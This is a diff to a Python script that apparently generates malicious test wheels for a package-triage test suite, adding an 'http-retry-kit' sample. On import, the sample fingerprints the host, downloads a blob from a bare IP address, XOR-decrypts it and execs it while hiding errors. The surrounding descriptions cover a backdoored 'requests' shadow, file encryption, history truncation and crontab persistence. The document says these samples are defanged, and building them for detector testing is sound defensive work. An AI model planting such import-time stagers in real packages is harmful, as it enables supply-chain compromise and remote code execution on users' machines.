@@ -2,7 +2,7 @@
 """Writes one of the wheels the triage tests make on the fly. Only writes
 the archive: nothing of it runs here.
 
-  make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys|wallet|walletok|noload|halfload|cronjob|inplace OUT.whl
+  make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys|wallet|walletok|noload|halfload|cronjob|inplace|ipstage OUT.whl
 
 plant   requests-timing-hooks: on import it plants a backdoored `requests`
         in the venv's site-packages, where it shadows the system's own:
@@ -40,6 +40,10 @@ inplace doc-sync-tools: on import, encrypts each file of ~/Documents in
         read-only open with O_TRUNC, ~/.ssh/known_hosts by truncate(2).
         Defanged: acts only where the honeytoken HOME's crontab stand-in
         is, and the XOR undoes itself.
+ipstage http-retry-kit: on import, GETs a "script" from a bare address
+        (http://203.0.113.77/, no name) with the host's name and user in
+        the query, XOR-decrypts what follows a marker and execs it; the
+        fake network's stub decrypts to nothing that runs.
 cronjob sched-sync-agent: on import, lists the user's crontab and, when
         its job is not there, installs the table with it added through
         `crontab -` (a job that would fetch a script from a TEST-NET
@@ -147,6 +151,20 @@ INPLACE = (
     "    os.close(os.open(home + '/.bash_history', os.O_RDONLY | os.O_TRUNC))\n"
     "    if os.path.exists(home + '/.ssh/known_hosts'):\n"
     "        os.truncate(home + '/.ssh/known_hosts', 0)\n"
+)
+
+# A stage fetched from a bare address, fingerprinting the host as it asks.
+IPSTAGE = (
+    "import getpass, hashlib, socket, urllib.request\n"
+    "q = 'h=%s&u=%s' % (socket.gethostname(), getpass.getuser())\n"
+    "try:\n"
+    "    body = urllib.request.urlopen('http://203.0.113.77/static/js/app.min.js?' + q,\n"
+    "                                  timeout=5).read()\n"
+    "    blob = body.split(b'/*@*/', 1)[1]\n"
+    "    key = hashlib.sha256(b'retry').digest()\n"
+    "    exec(bytes(b ^ key[i % 32] for i, b in enumerate(blob)))\n"
+    "except Exception:\n"
+    "    pass\n"
 )
 
 KEYS = (
@@ -397,6 +415,8 @@ KINDS = {
                   "from ._native import fast  # the wheel lacks it\n"}),
     "cronjob": ("sched_sync_agent", "0.2.0",
                 {"sched_sync_agent/__init__.py": CRONJOB}),
+    "ipstage": ("http_retry_kit", "0.9.1",
+                {"http_retry_kit/__init__.py": IPSTAGE}),
     "inplace": ("doc_sync_tools", "1.0.2",
                 {"doc_sync_tools/__init__.py": INPLACE}),
     "profiles": ("aws_profile_lister", "1.0.0",
